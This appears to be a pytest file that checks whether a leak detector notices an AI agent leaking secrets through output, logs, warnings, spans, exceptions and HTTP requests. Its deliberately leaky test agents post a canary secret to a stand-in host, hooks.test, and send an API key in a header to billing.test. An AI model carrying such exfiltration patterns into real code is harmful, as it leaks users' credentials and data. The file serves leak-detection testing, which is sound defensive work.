"""Runs in which a secret gets out, whichever way it takes."""

import contextlib
import json
import logging
import subprocess
import sys
import threading
import uuid
import warnings
from functools import partial

import anthropic
import httpx
import pytest
from opentelemetry.sdk.trace import TracerProvider

from chaoskit.check import Verdict
from chaoskit.journal import (
    Leaked,
    Requested,
)
from short_runs import MODEL, SEARCH, ask, outcome_of, played, scenario, search_logs


def test_journals_hold_fingerprints_of_keys_never_keys():
    """The key of a client is nowhere in the journal."""
    key = f"sk-{uuid.uuid4()}"
    journal = played(lambda prompt: ask(prompt, api_key=key), scenario())

    assert key not in journal.dumps()
    assert journal.of(Requested)[0].key


@pytest.mark.parametrize(
    "speak",
    [
        lambda value: print(value),  # noqa: T201, PLW0108 - looked up when called
        lambda value: sys.stderr.write(f"{value}\n"),
        lambda value: __import__("logging").getLogger("app").error("got %s", value),
        lambda value: __import__("warnings").warn(value, stacklevel=1),
    ],
)
def test_secrets_are_noticed_wherever_they_are_written(speak):
    """Output, logs and warnings are watched."""

    def agent(prompt):
        client = anthropic.Anthropic()
        reply = client.messages.create(
            model=MODEL,
            max_tokens=99,
            tools=[SEARCH],
            messages=[{"role": "user", "content": prompt}],
        )
        speak(reply.content[0].input["query"])
        return "done"

    text = '[[faults]]\nfault = "secret_in_arguments"\n'
    outcome = outcome_of(agent, scenario(text, promises=("no_secret_in_logs",)))

    assert outcome.verdict is Verdict.FAIL


LEAKY = """
[[faults]]
fault = "leaked_secret"
"""
CHILD = [sys.executable, "-c", "import sys; sys.stdout.write(sys.argv[1])"]


def _traced(text):
    span = TracerProvider().get_tracer("agent").start_span("call tool")
    span.set_attribute("tool.result", text)
    span.end()


def _threaded(text):
    def fail():
        raise ValueError(text)

    thread = threading.Thread(target=fail)
    thread.start()
    thread.join()


LEAKS = {
    "span": _traced,
    "request": lambda text: httpx.post("https://hooks.test/in", json={"text": text}),
    "stdout": lambda text: subprocess.run([*CHILD, text], check=True),
    "exception": _threaded,
    "log": lambda text: logging.getLogger("leaky").warning("result %s", text),
    "warning": lambda text: warnings.warn(text, stacklevel=1),
    "answer": None,
}


@pytest.mark.slow
@pytest.mark.parametrize("channel", LEAKS)
@pytest.mark.parametrize("quiet", [True, False])
def test_a_secret_is_seen_in_whatever_way_it_leaves(channel, quiet, monkeypatch, capfd):
    """The tool's result holds it, and the agent passes it on."""
    monkeypatch.setattr(threading, "excepthook", threading.__excepthook__)

    def agent(prompt):
        client = anthropic.Anthropic()
        reply = client.messages.create(
            model=MODEL,
            max_tokens=300,
            tools=[SEARCH],
            messages=[{"role": "user", "content": prompt}],
        )
        calls = [block for block in reply.content if block.type == "tool_use"]
        text = json.dumps(search_logs(**calls[0].input))
        if LEAKS[channel] is None:
            return text
        with contextlib.suppress(httpx.ConnectError):
            LEAKS[channel](text)
        return "fine"

    with warnings.catch_warnings(record=True):
        warnings.simplefilter("always")
        journal = played(agent, scenario(LEAKY), quiet=quiet)
    assert {channel} == {leak.channel for leak in journal.of(Leaked)}
    assert {"tool-result/user-1"} == {leak.canary for leak in journal.of(Leaked)}


def test_a_secret_in_a_header_to_the_provider_is_a_leak_and_one_in_the_conversation_is_not():
    """It belongs to the one and not to the other."""

    def agent(prompt):
        client = anthropic.Anthropic()
        message = {"role": "user", "content": prompt}
        ask = partial(client.messages.create, model=MODEL, max_tokens=300, tools=[SEARCH])
        reply = ask(messages=[message])
        (call,) = [block for block in reply.content if block.type == "tool_use"]
        text = json.dumps(search_logs(**call.input))
        result = {"type": "tool_result", "tool_use_id": call.id, "content": text}
        turns = [{"role": "assistant", "content": reply.content}]
        turns.append({"role": "user", "content": [result]})
        ask(messages=[message, *turns])
        ask(messages=[message], extra_headers={"x-last-result": text.replace("\\n", " ")})
        return "fine"

    (leak,) = played(agent, scenario(LEAKY)).of(Leaked)
    assert (leak.channel, leak.where) == ("request", "api.anthropic.com, header x-last-result")


def charge(api_key):
    """A tool of the agent under test, which uses the key that it is given."""
    bill(api_key)
    return "charged"


def bill(key):
    """What nobody but the tool should do."""
    with contextlib.suppress(httpx.ConnectError):
        httpx.get("https://billing.test", headers={"x-api-key": key})


@pytest.mark.parametrize("by", ["tool", "agent"])
def test_a_tool_may_send_the_key_that_it_is_given_and_the_agent_may_not(by):
    """The tool gets the real value in order to use it."""
    schema = {"type": "object", "properties": {"api_key": {"type": "string"}}}
    tool = {"name": "charge", "input_schema": schema | {"required": ["api_key"]}}

    def agent(prompt):
        reply = anthropic.Anthropic().messages.create(
            model=MODEL,
            max_tokens=300,
            tools=[tool],
            messages=[{"role": "user", "content": prompt}],
        )
        (call,) = [block for block in reply.content if block.type == "tool_use"]
        charge(**call.input) if by == "tool" else bill(call.input["api_key"])
        return "fine"

    given = scenario('[[faults]]\nfault = "secret_in_arguments"\n', prompt="Charge our account.")
    leaks = played(agent, given).of(Leaked)
    assert [leak.where for leak in leaks] == (
        [] if by == "tool" else ["billing.test, header x-api-key"]
    )
